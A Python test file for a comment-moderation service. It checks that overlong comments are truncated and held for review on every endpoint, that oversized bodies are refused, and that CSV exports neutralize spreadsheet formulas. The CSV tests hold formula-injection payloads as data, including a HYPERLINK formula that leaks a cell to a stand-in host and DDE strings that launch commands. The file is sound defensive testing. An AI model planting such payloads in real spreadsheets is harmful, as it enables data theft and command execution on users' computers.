"""Fail closed: every moderation path gives a verdict for any comment within the request cap, and
the comments the model cannot read whole are never auto-approved (Flask test client; the same
against real gunicorn is in tests/test_hostile_http.py)."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path
from unittest import mock

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modclf.csvsafe import TRIGGERS, restore_cell, safe_cell
from modclf.policy import DEFAULT_POLICY_PATH, PolicyError, load_policy, parse_policy
from modclf.serving import create_app
from modclf.window import SEPARATOR, bounded_window

from .integrations_support import LINK_DROP, ORDINARY, coral_body, coral_headers, coral_request

SECRET = "coral-test-secret-0123456789"
AKISMET_KEY = "akismet-test-key-0123456789"
BENIGN = ("I read the whole piece twice and I think the part about the water supply in the east is "
          "the most important thing anyone has written about the town this year. ")


def padded_link_drop(total: int) -> str:
    """A link drop buried in the middle of benign padding, ``total`` characters long."""
    half = (total - len(LINK_DROP)) // 2
    pad = (BENIGN * (total // len(BENIGN) + 2))
    return pad[:half] + " " + LINK_DROP + " " + pad[: total - half - len(LINK_DROP) - 2]


# -- the window ---------------------------------------------------------------------------------


@given(st.text(max_size=3000), st.integers(min_value=20, max_value=2000))
@settings(max_examples=200, deadline=None)
def test_window_is_bounded_and_exact_when_short(text: str, limit: int) -> None:
    window = bounded_window(text, limit)
    assert len(window.text) <= limit
    assert window.truncated == (len(text) > limit)
    if len(text) <= limit:
        assert window.text == text


def test_window_keeps_head_tail_and_a_link_buried_in_the_middle() -> None:
    text = padded_link_drop(30_000)
    window = bounded_window(text, 2_000)
    assert window.truncated and len(window.text) <= 2_000
    assert window.text.startswith(text[:500]) and window.text.endswith(text[-300:])
    assert "www.easy-cash-now.com" in window.text
    assert window.text.count(SEPARATOR) >= 2


# -- policy floors ----------------------------------------------------------------------------------


def test_truncated_comments_are_never_approved_even_by_an_old_policy_file() -> None:
    old_style = parse_policy({"labels": {"other": [{"at_least": 0.0, "action": "approve"}]}})
    probs = {"spam": 0.0, "dispute": 0.0, "question": 0.0, "support": 0.0, "other": 1.0}
    assert old_style.action_for("other", 1.0, probs) == "approve"
    assert old_style.action_for("other", 1.0, probs, ("truncated",)) == "review"
    shipped = load_policy(DEFAULT_POLICY_PATH)
    assert shipped.floors["truncated"] == "review"
    assert shipped.action_for("spam", 0.99, {**probs, "spam": 0.99}, ("truncated",)) == "reject"  # only stricter


def test_policy_floors_are_validated() -> None:
    with pytest.raises(PolicyError, match="unknown condition"):
        parse_policy({"labels": {}, "floors": {"too_long": "review"}})
    with pytest.raises(PolicyError, match="floors.truncated"):
        parse_policy({"labels": {}, "floors": {"truncated": "hold"}})


# -- every path answers a long comment with a verdict -------------------------------------------------


@pytest.fixture(scope="module")
def app(model_dir: Path, tmp_path_factory):
    db = tmp_path_factory.mktemp("fb") / "feedback.db"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("MODCLF_", "CORAL_", "AKISMET_"))}
    with mock.patch.dict(os.environ, env, clear=True):
        return create_app({"model_dir": str(model_dir), "policy": str(DEFAULT_POLICY_PATH), "max_text_chars": 2000,
                           "max_body_bytes": 256 * 1024, "feedback_db": f"sqlite:///{db}",
                           "coral_signing_secret": SECRET, "akismet_api_keys": AKISMET_KEY})


@pytest.fixture()
def client(app):
    return app.test_client()


def test_classify_long_comment_is_truncated_and_held(client) -> None:
    r = client.post("/v1/classify", json={"text": padded_link_drop(12_000)})
    assert r.status_code == 200
    body = r.get_json()
    assert body["truncated"] is True and body["action"] != "approve"
    short = client.post("/v1/classify", json={"text": ORDINARY}).get_json()
    assert short["truncated"] is False


def test_batch_marks_only_the_long_item_truncated(client) -> None:
    r = client.post("/v1/classify/batch", json={"comments": [{"text": ORDINARY}, {"text": padded_link_drop(5000)}]})
    results = r.get_json()["results"]
    assert [x["truncated"] for x in results] == [False, True] and results[1]["action"] != "approve"


def test_coral_long_comment_is_withheld_not_refused(client) -> None:
    body = coral_body(coral_request(padded_link_drop(12_000)))
    r = client.post("/integrations/coral", data=body, headers=coral_headers(body, (SECRET,)))
    assert r.status_code == 200 and r.get_json()["status"] in ("SYSTEM_WITHHELD", "REJECTED")


def test_coral_body_above_the_cap_is_withheld_when_signed_and_401_when_not(client) -> None:
    body = coral_body(coral_request("x " * 200_000))  # ~400 kB > the 256 kB cap
    r = client.post("/integrations/coral", data=body, headers=coral_headers(body, (SECRET,)))
    assert r.status_code == 200 and r.get_json() == {"status": "SYSTEM_WITHHELD"}
    r = client.post("/integrations/coral", data=body, headers=coral_headers(body, ("wrong-secret-0123456789",)))
    assert r.status_code == 401


def test_akismet_long_comment_is_spam_not_an_error(client) -> None:
    form = {"api_key": AKISMET_KEY, "blog": "https://news.example", "user_ip": "203.0.113.9",
            "comment_content": padded_link_drop(12_000)}
    r = client.post("/akismet/1.1/comment-check", data=form)
    assert r.status_code == 200 and r.get_data(as_text=True) == "true"


def test_akismet_body_above_the_cap_is_spam(client) -> None:
    form = {"api_key": AKISMET_KEY, "blog": "https://news.example", "user_ip": "203.0.113.9",
            "comment_content": "y" * 300_000}
    r = client.post("/akismet/1.1/comment-check", data=form)
    assert r.status_code == 200 and r.get_data(as_text=True) == "true"
    # not X-akismet-debug-help: some clients (@cedx/akismet) read that header as an error, and an
    # error can publish the comment
    assert "X-akismet-debug-help" not in r.headers and "cap" in r.headers["X-modclf-reason"]


def test_json_body_above_the_cap_is_413(client) -> None:
    r = client.post("/v1/classify", data=b'{"text": "' + b"a" * 300_000 + b'"}', content_type="application/json")
    assert r.status_code == 413 and r.get_json()["error"]["code"] == "payload_too_large"


def test_short_body_for_its_content_length_is_400(client) -> None:
    environ = {"CONTENT_LENGTH": "100", "CONTENT_TYPE": "application/json", "wsgi.input": io.BytesIO(b'{"text": "x"}')}
    r = client.post("/v1/classify", environ_overrides=environ)
    assert r.status_code == 400 and r.get_json()["error"]["code"] == "malformed_body"


# -- CSV cells --------------------------------------------------------------------------------------


@given(st.text(max_size=50))
@settings(max_examples=300, deadline=None)
def test_csv_cells_never_start_a_formula_and_round_trip(value: str) -> None:
    cell = safe_cell(value)
    assert not (cell[:1] and cell[0] in "=+-@\t\r")
    assert restore_cell(cell) == value


def test_score_py_csv_output_neutralizes_formulas(tmp_path: Path, model_dir: Path) -> None:
    from modclf.scoring import score_file

    evil = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1", "'quoted", "plain"]
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": [f"-{i}" for i in range(len(evil))], "text": evil, "=col": "x"}).to_csv(
        src, index=False, quoting=csv.QUOTE_ALL)  # pandas leaves a lone CR unquoted otherwise
    out = tmp_path / "out.csv"
    score_file(src, out, model_dir, progress=False)
    back = pd.read_csv(out, dtype=str, keep_default_na=False)
    for column in ("id", "text"):
        assert not back[column].str.startswith(TRIGGERS[:-1]).any(), back[column].tolist()
    assert [restore_cell(v) for v in back["text"]] == evil
    assert [restore_cell(v) for v in back["id"]] == [f"-{i}" for i in range(len(evil))]
    assert "'=col" in back.columns
    assert pd.to_numeric(back["confidence"]).between(0, 1).all()  # numbers stay numbers


def test_feedback_export_neutralizes_formulas(client) -> None:
    for i, text in enumerate(["=HYPERLINK(\"http://x\",\"y\")", "+cmd|x", "@SUM(A1)", "-2+3+cmd|x"]):
        r = client.post("/v1/feedback", json={"id": f"f{i}", "text": text, "label": "spam", "source": "=evil()"})
        assert r.status_code in (200, 201), r.get_data(as_text=True)
    export = client.get("/v1/feedback/export").get_data(as_text=True)
    frame = pd.read_csv(io.StringIO(export), dtype=str, keep_default_na=False)
    assert len(frame) >= 4
    for column in ("id", "text", "source"):
        assert not frame[column].str.startswith(("=", "+", "-", "@", "\t", "\r")).any(), column
    assert {restore_cell(t) for t in frame["text"]} >= {"+cmd|x", "@SUM(A1)", "-2+3+cmd|x"}
